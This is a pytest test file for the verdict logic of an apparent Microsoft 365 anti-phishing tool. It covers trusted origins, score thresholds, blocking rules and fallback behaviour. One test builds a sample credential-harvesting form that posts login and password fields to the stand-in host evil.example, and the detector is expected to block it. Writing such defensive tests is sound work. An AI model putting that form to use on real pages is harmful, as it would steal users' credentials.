"""Tests for the verdict state machine."""

import json
from dataclasses import replace

import pytest
from conftest import (
    BARE_FINGERPRINT_HTML,
    CREDENTIAL_HARVEST_HTML,
    LOOKALIKE_HTML,
    MICROSOFT_LOGIN_HTML,
    UNRELATED_HTML,
    make_snapshot,
)

from m365guard.analyzer.metrics import metrics
from m365guard.analyzer.ruleset import parse_ruleset
from m365guard.analyzer.ruleset_loader import RuleSetLoader
from m365guard.config import ProtectionPolicy
from m365guard.constants import Classification, EventType, Severity, UiAction
from m365guard.pipeline.orchestrator import ClassificationError, ProtectionOrchestrator
from m365guard.reporter.directives import RecordingDirectiveSink
from m365guard.reporter.events import RecordingEventSink

BLOCKING_DIRECTIVES = [
    UiAction.SHOW_BLOCKING_PAGE,
    UiAction.PREVENT_FORM_SUBMISSION,
    UiAction.LOCK_CREDENTIAL_INPUTS,
]


def build(ruleset=None, **kwargs):
    events = RecordingEventSink()
    directives = RecordingDirectiveSink()
    orchestrator = ProtectionOrchestrator(
        ruleset=ruleset,
        event_sinks=[events],
        directive_sink=directives,
        **kwargs,
    )
    return orchestrator, events, directives


def content_rules(*weights):
    """Content rules matching any page containing 'idPartnerPL'."""
    return [
        {
            "id": f"content_{i}",
            "type": "content",
            "weight": weight,
            "condition": {"contains": "idPartnerPL"},
        }
        for i, weight in enumerate(weights)
    ]


@pytest.fixture
def scored_ruleset(rules_doc):
    """Build a rule set whose scoring rules sum to the given weights."""

    def _make(*weights):
        rules_doc["rules"] = content_rules(*weights)
        return parse_ruleset(rules_doc)

    return _make


class TestScenarios:
    @pytest.mark.asyncio
    async def test_trusted_origin_any_content(self, ruleset):
        orchestrator, events, directives = build(ruleset)
        snapshot = make_snapshot(url="https://login.microsoftonline.com/common/login", html=CREDENTIAL_HARVEST_HTML)
        verdict = await orchestrator.scan(lambda: snapshot)
        assert verdict.classification is Classification.TRUSTED
        assert not verdict.trusted_by_referrer
        assert directives.actions == [UiAction.SHOW_BADGE]
        assert [e.type for e in events.events] == [EventType.LEGITIMATE_ACCESS]

    @pytest.mark.asyncio
    async def test_form_action_blocking(self, rules_doc):
        rules_doc["blocking_rules"][0]["condition"]["action_must_contain"] = "microsoftonline.com"
        orchestrator, events, directives = build(parse_ruleset(rules_doc))
        html = (
            '<form action="https://evil.example/collect">'
            '<input name="loginfmt"><input type="password" name="passwd"></form>'
            '<input type="hidden" name="idPartnerPL">'
        )
        verdict = await orchestrator.scan(lambda: make_snapshot(url="https://evil.example/", html=html))
        assert verdict.classification is Classification.BLOCKED
        assert "https://evil.example/collect" in verdict.reason
        assert verdict.blocking_rule.id == "password_form_wrong_action"
        assert verdict.score is None
        assert directives.actions == BLOCKING_DIRECTIVES
        assert [e.type for e in events.events] == [EventType.THREAT_BLOCKED]
        assert events.events[0].rule == "password_form_wrong_action"
        assert orchestrator.session.closed
        assert orchestrator.session.close_reason == "blocked"

    @pytest.mark.asyncio
    async def test_score_60_is_suspicious(self, scored_ruleset):
        orchestrator, events, directives = build(scored_ruleset(30, 30))
        verdict = await orchestrator.scan(lambda: make_snapshot(html=LOOKALIKE_HTML))
        assert verdict.classification is Classification.SUSPICIOUS
        assert verdict.severity is Severity.MEDIUM
        assert verdict.score == 60
        assert verdict.threshold == 85
        assert directives.actions == [UiAction.SHOW_WARNING_BANNER]
        assert [e.type for e in events.events] == [EventType.THREAT_DETECTED]
        assert events.events[0].severity == "medium"
        assert not orchestrator.session.closed

    @pytest.mark.asyncio
    async def test_score_10_is_blocked(self, scored_ruleset):
        orchestrator, events, directives = build(scored_ruleset(10))
        verdict = await orchestrator.scan(lambda: make_snapshot(html=LOOKALIKE_HTML))
        assert verdict.classification is Classification.BLOCKED
        assert verdict.severity is Severity.HIGH
        assert verdict.blocking_rule is None
        assert directives.actions == BLOCKING_DIRECTIVES
        assert [e.type for e in events.events] == [EventType.THREAT_DETECTED]
        assert events.events[0].severity == "high"
        assert orchestrator.session.closed

    @pytest.mark.asyncio
    async def test_malformed_rules_fall_back_when_markers_present(self, tmp_path):
        path = tmp_path / "rules.json"
        path.write_text(json.dumps({"trusted_origins": "nope"}), encoding="utf-8")
        events = RecordingEventSink()
        directives = RecordingDirectiveSink()
        orchestrator = ProtectionOrchestrator(
            loader=RuleSetLoader(path), event_sinks=[events], directive_sink=directives
        )

        verdict = await orchestrator.scan(lambda: make_snapshot(url="https://evil.example/", html=LOOKALIKE_HTML))
        assert verdict is None
        assert orchestrator.get_last_verdict() is None
        assert directives.actions == [UiAction.SHOW_WARNING_BANNER]
        assert directives.directives[0].payload["fallback"] is True
        assert events.events == []
        assert metrics.get_summary()["rule_load_failures"] == 1

    @pytest.mark.asyncio
    async def test_malformed_rules_without_markers_stay_silent(self, tmp_path):
        path = tmp_path / "rules.json"
        path.write_text("{broken", encoding="utf-8")
        orchestrator, events, directives = build(loader=RuleSetLoader(path))
        assert await orchestrator.scan(lambda: make_snapshot(html=UNRELATED_HTML)) is None
        assert directives.directives == []

    @pytest.mark.asyncio
    async def test_malformed_rules_on_microsoft_host_stay_silent(self, tmp_path):
        orchestrator, events, directives = build(loader=RuleSetLoader(tmp_path / "missing.json"))
        snapshot = make_snapshot(url="https://login.microsoftonline.com/", html=LOOKALIKE_HTML)
        assert await orchestrator.scan(lambda: snapshot) is None
        assert directives.directives == []


    @pytest.mark.asyncio
    async def test_cleared_rules_without_loader_fall_back(self, ruleset):
        orchestrator, events, directives = build(ruleset)
        orchestrator.reset_rules()

        verdict = await orchestrator.scan(lambda: make_snapshot(url="https://evil.example/", html=LOOKALIKE_HTML))
        assert verdict is None
        assert directives.actions == [UiAction.SHOW_WARNING_BANNER]
        assert metrics.get_summary()["rule_load_failures"] == 1


class TestPrecedence:
    @pytest.mark.asyncio
    async def test_trusted_referrer_without_password(self, ruleset):
        orchestrator, events, directives = build(ruleset)
        snapshot = make_snapshot(
            url="https://portal.contoso.com/home",
            html=LOOKALIKE_HTML,
            referrer="https://login.microsoftonline.com/common/login",
        )
        verdict = await orchestrator.scan(lambda: snapshot)
        assert verdict.classification is Classification.TRUSTED
        assert verdict.trusted_by_referrer
        assert directives.directives == []
        assert [e.type for e in events.events] == [EventType.TRUSTED_BY_REFERRER]

    @pytest.mark.asyncio
    async def test_trusted_referrer_ignored_with_password(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        snapshot = make_snapshot(
            url="https://evil.example/",
            html=CREDENTIAL_HARVEST_HTML,
            referrer="https://login.microsoftonline.com/",
        )
        verdict = await orchestrator.scan(lambda: snapshot)
        assert verdict.classification is Classification.BLOCKED

    @pytest.mark.asyncio
    async def test_blocking_rule_beats_high_score(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        snapshot = make_snapshot(
            url="https://evil.example/",
            html=CREDENTIAL_HARVEST_HTML + '<form action="https://login.microsoftonline.com/x"></form>',
        )
        verdict = await orchestrator.scan(lambda: snapshot)
        assert verdict.classification is Classification.BLOCKED
        assert verdict.blocking_rule is not None
        assert verdict.score is None

    @pytest.mark.asyncio
    async def test_proxied_login_page_is_suspicious(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        snapshot = make_snapshot(url="https://evil.example/common/login", html=MICROSOFT_LOGIN_HTML)
        verdict = await orchestrator.scan(lambda: snapshot)
        assert verdict.classification is Classification.SUSPICIOUS
        assert verdict.score == 55

    @pytest.mark.asyncio
    async def test_not_applicable(self, ruleset):
        orchestrator, events, directives = build(ruleset)
        verdict = await orchestrator.scan(lambda: make_snapshot(html=UNRELATED_HTML))
        assert verdict.classification is Classification.NOT_APPLICABLE
        assert events.events == []
        assert directives.directives == []
        assert not orchestrator.session.closed

    @pytest.mark.asyncio
    async def test_safe_when_score_meets_threshold(self, rules_doc):
        rules_doc["thresholds"]["legitimate"] = 30
        orchestrator, events, directives = build(parse_ruleset(rules_doc))
        verdict = await orchestrator.scan(lambda: make_snapshot(html=LOOKALIKE_HTML))
        assert verdict.classification is Classification.SAFE
        assert verdict.score == 35
        assert events.events == []
        assert directives.directives == []


class TestEvaluation:
    def test_evaluate_is_idempotent(self, ruleset):
        orchestrator, events, _ = build(ruleset)
        snapshot = make_snapshot(html=LOOKALIKE_HTML)
        assert orchestrator.evaluate(snapshot, ruleset) == orchestrator.evaluate(snapshot, ruleset)
        assert events.events == []
        assert orchestrator.session.scan_count == 0

    def test_scoring_order_does_not_change_verdict(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        reordered = replace(ruleset, scoring_rules=tuple(reversed(ruleset.scoring_rules)))
        snapshot = make_snapshot(html=LOOKALIKE_HTML)
        first = orchestrator.evaluate(snapshot, ruleset)
        second = orchestrator.evaluate(snapshot, reordered)
        assert (first.classification, first.score) == (second.classification, second.score)

    def test_evaluate_wraps_unexpected_errors(self, ruleset, monkeypatch):
        orchestrator, _, _ = build(ruleset)

        def explode(*args, **kwargs):
            raise RuntimeError("matcher crashed")

        monkeypatch.setattr(orchestrator.fingerprint, "matches", explode)
        with pytest.raises(ClassificationError):
            orchestrator.evaluate(make_snapshot(html=LOOKALIKE_HTML), ruleset)

    def test_requires_rules_or_loader(self):
        with pytest.raises(ValueError):
            ProtectionOrchestrator()


class TestScanBehaviour:
    @pytest.mark.asyncio
    async def test_classification_error_falls_back(self, ruleset, monkeypatch):
        orchestrator, events, directives = build(ruleset)
        def explode(*args, **kwargs):
            raise RuntimeError("scorer crashed")

        monkeypatch.setattr(orchestrator.scorer, "evaluate", explode)
        verdict = await orchestrator.scan(lambda: make_snapshot(html=LOOKALIKE_HTML))
        assert verdict is None
        assert directives.actions == [UiAction.SHOW_WARNING_BANNER]
        assert directives.directives[0].payload["fallback"] is True

    @pytest.mark.asyncio
    async def test_warn_only_mode(self, ruleset):
        orchestrator, events, directives = build(ruleset, policy=ProtectionPolicy(enable_page_blocking=False))
        verdict = await orchestrator.scan(lambda: make_snapshot(html=CREDENTIAL_HARVEST_HTML))
        assert verdict.classification is Classification.BLOCKED
        assert directives.actions == [UiAction.SHOW_WARNING_BANNER]
        assert [e.type for e in events.events] == [EventType.THREAT_BLOCKED]

    @pytest.mark.asyncio
    async def test_badge_disabled(self, ruleset):
        orchestrator, events, directives = build(ruleset, policy=ProtectionPolicy(show_valid_badge=False))
        await orchestrator.scan(lambda: make_snapshot(url="https://login.live.com/", html=""))
        assert directives.directives == []
        assert [e.type for e in events.events] == [EventType.LEGITIMATE_ACCESS]

    @pytest.mark.asyncio
    async def test_disabled_policy_skips_scan(self, ruleset):
        orchestrator, events, _ = build(ruleset, policy=ProtectionPolicy(enabled=False))
        assert await orchestrator.scan(lambda: make_snapshot(html=CREDENTIAL_HARVEST_HTML)) is None
        assert orchestrator.session.scan_count == 0
        assert events.events == []

    @pytest.mark.asyncio
    async def test_extra_trusted_origin_from_policy(self, ruleset):
        policy = ProtectionPolicy(extra_trusted_origins=frozenset({"https://sso.contoso.com"}))
        orchestrator, _, _ = build(ruleset, policy=policy)
        verdict = await orchestrator.scan(lambda: make_snapshot(url="https://sso.contoso.com/", html=CREDENTIAL_HARVEST_HTML))
        assert verdict.classification is Classification.TRUSTED

    @pytest.mark.asyncio
    async def test_extra_trusted_origin_with_loaded_rules(self, tmp_path, rules_doc):
        path = tmp_path / "rules.json"
        path.write_text(json.dumps(rules_doc), encoding="utf-8")
        loader = RuleSetLoader(path)
        policy = ProtectionPolicy(extra_trusted_origins=frozenset({"https://sso.contoso.com"}))
        orchestrator, _, _ = build(loader=loader, policy=policy)

        verdict = await orchestrator.scan(lambda: make_snapshot(url="https://sso.contoso.com/", html=CREDENTIAL_HARVEST_HTML))
        assert verdict.classification is Classification.TRUSTED
        # The loaded document keeps only its own origins
        assert "https://sso.contoso.com" not in loader.cached.trusted_origins

    @pytest.mark.asyncio
    async def test_async_snapshot_source(self, ruleset):
        orchestrator, _, _ = build(ruleset)

        async def capture():
            return make_snapshot(html=BARE_FINGERPRINT_HTML)

        verdict = await orchestrator.scan(capture)
        assert verdict.classification is Classification.BLOCKED
        assert orchestrator.get_last_verdict() is verdict

    @pytest.mark.asyncio
    async def test_capture_failure_returns_none(self, ruleset):
        orchestrator, _, _ = build(ruleset)

        def capture():
            raise ConnectionError("page went away")

        assert await orchestrator.scan(capture) is None
        assert not orchestrator.session.active

    @pytest.mark.asyncio
    async def test_sink_failures_do_not_propagate(self, ruleset):
        class BrokenSink:
            def emit(self, event):
                raise RuntimeError("sink down")

            def apply(self, directive):
                raise RuntimeError("renderer down")

        orchestrator = ProtectionOrchestrator(ruleset=ruleset, event_sinks=[BrokenSink()], directive_sink=BrokenSink())
        verdict = await orchestrator.scan(lambda: make_snapshot(html=CREDENTIAL_HARVEST_HTML))
        assert verdict.classification is Classification.BLOCKED

    @pytest.mark.asyncio
    async def test_rules_loaded_lazily_once(self, tmp_path, rules_doc):
        path = tmp_path / "rules.json"
        path.write_text(json.dumps(rules_doc), encoding="utf-8")
        loader = RuleSetLoader(path)
        orchestrator, _, _ = build(loader=loader)
        await orchestrator.scan(lambda: make_snapshot(html=UNRELATED_HTML))
        path.unlink()
        verdict = await orchestrator.scan(lambda: make_snapshot(html=UNRELATED_HTML))
        assert verdict.classification is Classification.NOT_APPLICABLE

    @pytest.mark.asyncio
    async def test_metrics_recorded(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        await orchestrator.scan(lambda: make_snapshot(html=LOOKALIKE_HTML))
        summary = metrics.get_summary()
        assert summary["scans"] == 1
        assert summary["classifications"] == {"suspicious": 1}
        assert summary["rules"]["msauth_scripts_origin"]["hits"] == 1

    def test_verdict_to_dict(self, ruleset):
        orchestrator, _, _ = build(ruleset)
        data = orchestrator.evaluate(make_snapshot(html=LOOKALIKE_HTML), ruleset).to_dict()
        assert data["classification"] == "suspicious"
        assert data["severity"] == "medium"
        assert data["score"] == 35
        assert {r["id"] for r in data["triggeredRules"]} == {
            "microsoft_login_inputs",
            "msauth_cdn_reference",
            "msauth_scripts_origin",
        }
        assert data["blockingRule"] is None
